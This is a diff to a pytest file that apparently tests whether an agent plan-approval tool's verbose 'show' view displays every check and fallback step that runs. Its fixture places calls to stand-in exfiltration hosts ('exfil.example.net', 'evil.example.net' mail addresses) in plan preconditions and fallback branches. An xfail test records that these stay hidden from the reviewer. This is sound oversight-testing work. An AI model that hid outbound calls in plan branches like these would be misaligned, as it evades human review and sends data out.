@@ -178,6 +178,48 @@ actions:
 }
 
 
+HIDDEN_CHECKS = """\
+plan:
+  name: hidden-checks
+  task: t
+  status: pending_approval
+available_tools:
+  - name: rec
+  - name: chk
+  - name: mail
+preconditions:
+  - {tool: chk, params: {tag: hc-plan-pre, q: "https://exfil.example.net/plan-pre"}, expect: {path: $.json.ok, equals: true}}
+actions:
+  - id: 1
+    tool: rec
+    why: first
+    params: {tag: hc-1, p: "not-allowed"}
+    outputs:
+      - {name: who, path: "$.json.echo.p"}
+  - id: 2
+    tool: mail
+    why: second
+    params: {tag: hc-2, to: "$<actions[1].outputs.who>"}
+    guards:
+      - {param: to, matches: "ok-.*"}
+    on_failure: fallback
+    fallback:
+      - id: "2.1"
+        tool: mail
+        why: "fallback step"
+        params: {tag: hc-fb, to: "fb-to@evil.example.net"}
+        preconditions:
+          - {tool: chk, params: {tag: hc-fb-pre, q: "https://exfil.example.net/fb-pre"}, expect: {path: $.json.ok, equals: true}}
+        guards:
+          - {param: to, one_of: ["fb-to@evil.example.net", "fb-guard@evil.example.net"]}
+"""
+HIDDEN = {
+    "plan-precondition": ("hc-plan-pre", "https://exfil.example.net/plan-pre"),
+    "fallback-precondition": ("hc-fb-pre", "https://exfil.example.net/fb-pre"),
+    "fallback-guard": ("hc-fb", "fb-guard@evil.example.net"),
+}
+
+
 def _build(root: Path) -> Lab:
     (root / "slow.py").write_text(SLOW)
     (root / "emit.py").write_text(EMIT)
@@ -192,9 +234,10 @@ slow: {{kind: exec, argv: {slow}, env: {{REC_LOG: {rec_log}}}}}
 emit: {{kind: exec, argv: {emit}}}
 fail: {{kind: exec, argv: ['false']}}
 chk: {{kind: exec, argv: {rec}, env: {{REC_LOG: {rec_log}}}, idempotent: true, risk: low}}
+mail: {{kind: exec, argv: {rec}, env: {{REC_LOG: {rec_log}}}, sensitive: [to]}}
 """,
     )
-    plans: dict[str, str] = {"fallback-hidden": _fallback_plan("fallback-hidden")}
+    plans: dict[str, str] = {"fallback-hidden": _fallback_plan("fallback-hidden"), "hidden-checks": HIDDEN_CHECKS}
     for tag, (out, target) in OUTPUTS.items():
         plans[tag] = _emit_plan(tag, out, target)
     plans["nul-in-argv"] = plan_text("nul-in-argv").replace('tag: "nul-in-argv"', 'tag: "nul-in-argv\\0x"')
@@ -223,6 +266,7 @@ chk: {{kind: exec, argv: {rec}, env: {{REC_LOG: {rec_log}}}, idempotent: true, r
             ("legacy-fallback", ("--verbose",)),
             ("legacy-check", ("--verbose",)),
             ("nested-legacy", ("--verbose",)),
+            ("hidden-checks", ("--verbose",)),
         )
     }
     lab.shows["fallback-hidden-verbose"] = lab.cli(  # type: ignore[attr-defined]
@@ -261,6 +305,18 @@ def test_show_prints_what_a_fallback_step_runs_with(lab: Lab, view: str) -> None
     assert "hidden-fallback-hidden@evil.example.net" in json.loads(ran[0]["stdin"])["to"]
     shown = lab.shows[view]  # type: ignore[attr-defined]
     assert "hidden-fallback-hidden@evil.example.net" in shown, shown
+
+
+@pytest.mark.xfail(strict=True, raises=AssertionError, reason="round 6: `show --verbose` omits plan-level preconditions of a chain plan and a fallback step's checks and guards: check tools run with params the reviewer never saw")
+@pytest.mark.parametrize("what", list(HIDDEN))
+def test_show_prints_every_check_that_runs(lab: Lab, what: str) -> None:
+    tag, value = HIDDEN[what]
+    ran = lab.calls(tag)
+    assert len(ran) == 1, ran
+    if what != "fallback-guard":
+        assert json.loads(ran[0]["stdin"])["q"] == value  # it ran with the hidden value
+    shown = lab.shows["hidden-checks"]  # type: ignore[attr-defined]
+    assert value in shown, shown
 
 
 @pytest.mark.parametrize("tag", list(OUTPUTS) + ["nul-in-argv"])
